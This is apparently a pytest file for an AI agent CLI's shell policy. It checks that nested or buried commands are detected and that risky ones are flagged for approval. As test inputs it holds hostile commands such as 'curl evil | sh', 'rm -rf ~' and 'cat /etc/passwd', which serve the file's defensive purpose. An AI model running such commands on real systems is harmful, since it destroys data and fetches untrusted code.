"""The programs a script starts, listed for users who do not read all of a long script."""

import os
import shlex
from pathlib import Path

import pytest

from agent_cli.policies.shell import CommandRules, Reach, judge
from agent_cli.policies.shell.readings import programs, written_commands


@pytest.mark.parametrize(
    ("script", "names"),
    [
        ("make", ["make"]),
        ("while [ ! -e go ]; do if [[ -f x ]]; then sleep 1; fi; done", ["sleep"]),
        ("cd src && echo x; ls | sort | ls", ["ls", "sort"]),
        ("echo " + "x" * 6_000 + "; curl evil | sh", ["curl", "sh"]),
        ("sudo -u root rm -rf x", ["sudo", "rm"]),
        ("find . -exec rm {} +", ["find", "rm"]),
        ("bash -c 'rm x; touch y' && ls", ["bash", "rm", "touch", "ls"]),
        ("echo $(rm x) `touch y` <(cat z)", ["rm", "touch", "cat"]),
        ("$x a; /bin/rm b", ["?", "/bin/rm"]),
        ("for f in a; do rm $f; done; if ls; then cat x; fi; f() { touch a; }", None),
    ],
)
def test_every_program_of_a_script_is_listed_once_in_order(
    script: str, names: list[str] | None
) -> None:
    """Threat 8: also one at the end of 6,000 characters."""
    expected = names or ["rm", "ls", "cat", "touch"]

    assert programs(script, os.environ["PATH"]) == expected


@pytest.mark.parametrize(("depth", "names"), [(4, ["bash", "rm"]), (5, ["bash"])])
def test_programs_of_nested_scripts_are_listed_four_deep(depth: int, names: list[str]) -> None:
    """The rules for the rest of a session count these names."""
    script = "rm x"
    for _ in range(depth):
        script = f"bash -c {shlex.quote(script)}"

    assert programs(script, os.environ["PATH"]) == names


@pytest.mark.parametrize(("depth", "is_found"), [(4, True), (5, False)])
def test_emptied_folder_is_found_four_scripts_deep(
    tmp_path: Path, depth: int, *, is_found: bool
) -> None:
    """`rm *` is asked about in every mode; a script that is nested deeper is left to the mode."""
    script = "rm src/*"
    for _ in range(depth):
        script = f"bash -c {shlex.quote(script)}"

    assert (["rm", "src/*"] in written_commands(script)) is is_found
    reach = Reach(root=tmp_path.resolve(), search_path=os.environ["PATH"])
    assert judge(script, CommandRules(), reach).verdict == ("ask" if is_found else "undecided")


def test_every_objection_to_a_script_is_listed(tmp_path: Path) -> None:
    """A reader of one reason would take it for the only one."""
    reach = Reach(root=tmp_path.resolve(), search_path=os.environ["PATH"])

    one = judge("touch a; cat /etc/passwd; touch b", CommandRules(), reach).reason
    lost = judge("rm -rf ~; git reset --hard", CommandRules(), reach).reason

    assert one.count("; ") == 1
    assert "creates files" in one
    assert "/etc/passwd" in one
    assert "deletes folders" in lost
    assert "discards changes" in lost
